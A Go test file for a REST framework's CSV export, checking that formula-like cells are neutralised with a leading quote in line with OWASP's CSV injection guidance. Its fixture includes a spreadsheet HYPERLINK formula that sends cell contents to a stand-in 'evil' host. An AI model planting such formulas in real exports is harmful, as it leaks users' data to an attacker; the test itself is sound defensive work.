package modelresource_test

import (
	"database/sql"
	"net/http"
	"testing"

	"github.com/tastygo/tastygo/dialect"
	"github.com/tastygo/tastygo/internal/testdb"
	"github.com/tastygo/tastygo/resource"
)

// TestCSVFormulasNeutralised: text cells starting with '=', '+', '-', '@', a tab or a carriage return
// get a leading quote (OWASP's CSV injection guidance), numbers (-3.5 in a float field) do not; and
// Meta.CSVRawText or Config.CSVRawText leaves text as it is.
func TestCSVFormulasNeutralised(t *testing.T) {
	bios := map[int]string{1: `=HYPERLINK("http://evil/?"&A1,"x")`, 2: "+1+2", 3: "-3.5", 4: "@SUM(A1)"}
	names := map[int]string{1: "\tTab", 2: "\rCR", 3: "Plain = text", 4: "'quoted"}
	const path = "/api/v1/author/?format=csv&fields=id,name,bio,rating&order_by=id"
	neutralised := "id,name,rating,bio,resource_uri\n" +
		"1,'\tTab,-3.5,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",/api/v1/author/1/\n" +
		"2,\"'\rCR\",,'+1+2,/api/v1/author/2/\n" +
		"3,Plain = text,4.8,'-3.5,/api/v1/author/3/\n" +
		"4,'quoted,3,'@SUM(A1),/api/v1/author/4/\n"
	raw := "id,name,rating,bio,resource_uri\n" +
		"1,\"\tTab\",-3.5,\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",/api/v1/author/1/\n" +
		"2,\"\rCR\",,+1+2,/api/v1/author/2/\n" +
		"3,Plain = text,4.8,-3.5,/api/v1/author/3/\n" +
		"4,'quoted,3,@SUM(A1),/api/v1/author/4/\n"
	tests := []struct {
		name string
		cfg  resource.Config
		meta bool
		want string
	}{
		{name: "by default", want: neutralised},
		{name: "Meta.CSVRawText", meta: true, want: raw},
		{name: "Config.CSVRawText", cfg: resource.Config{CSVRawText: true}, want: raw},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			testdb.Each(t, func(t *testing.T, db *sql.DB, d dialect.Dialect) {
				rs := fixtureResources()
				rs[1].Meta().CSVRawText = tc.meta
				c := newFixtureClient(t, db, d, tc.cfg, rs...)
				for id, bio := range bios {
					if _, err := db.Exec(d.Rebind(`UPDATE author SET bio = ?, name = ? WHERE id = ?`), bio, names[id], id); err != nil {
						t.Fatal(err)
					}
				}
				if _, err := db.Exec(`UPDATE author SET rating = -3.5 WHERE id = 1`); err != nil {
					t.Fatal(err)
				}
				status, _, body := getCSV(t, c.h, http.MethodGet, path, "")
				if status != http.StatusOK || body != tc.want {
					t.Errorf("status %d, body\n%q\nwant\n%q", status, body, tc.want)
				}
			})
		})
	}
}
